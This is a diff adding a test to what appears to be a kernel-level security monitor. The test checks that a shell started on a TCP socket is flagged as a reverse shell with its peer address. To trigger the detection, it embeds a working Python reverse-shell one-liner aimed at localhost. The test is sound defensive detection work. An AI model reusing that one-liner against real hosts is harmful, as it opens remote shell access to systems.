@@ -137,6 +137,21 @@ describe('agent capture (root, real kernel)', () => {
     expect(sec).toContainEqual(expect.objectContaining({ kind: 'unlink', ret: 0, args: { path: join(dir, 'g') } }));
   });
 
+  it('names a shell started on a TCP socket (a reverse shell) with its peer, and not one started on a pipe', async () => {
+    const { cap, shell } = await ownShell('vss', 'vigil-stdio-');
+    const sh = execFileSync('readlink', ['-f', '/bin/sh'], { encoding: 'utf8' }).trim();
+    // what every reverse shell does, whatever the tool: connect, make the socket stdin and stdout, exec a shell
+    const py = `import os, socket; s = socket.create_connection(("127.0.0.1", ${port})); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.execv("/bin/sh", ["sh", "-c", "sleep 1; true"])`;
+    const script = `/usr/bin/python3 -c '${py}'; echo | /bin/sh -c "sleep 1; true"; exit 0`;
+    expect((await runToEnd(shell, ['-c', script])).code).toBe(0);
+    const { lines, code } = await cap.stop();
+    expect(code, cap.stderr()).toBe(0);
+    const sockets = lines.filter((l) => l.type === 'security' && l.kind === 'stdio_socket');
+    expect(sockets).toEqual([expect.objectContaining({ exe: sh, ret: 0, args: { peer: `127.0.0.1:${port}`, fds: '0,1' } })]);
+    // the shell on a pipe was seen too, and named nothing
+    expect(lines.filter((l) => l.type === 'exec' && l.exe === sh && l.ret === 0).length).toBeGreaterThanOrEqual(2);
+  });
+
   it('reports relative opens by absolute path (cd DIR && cat f), failed ones too, and absolute ones unchanged', async () => {
     const { dir, cap, shell } = await ownShell('vro', 'vigil-relopen-', (d) => writeFileSync(join(d, 'f'), 'x'));
     const script = `cd ${dir} && cat f >/dev/null; cat missing 2>/dev/null; cat ${dir}/f >/dev/null; cd /etc && cat ./hostname >/dev/null; exit 0`;
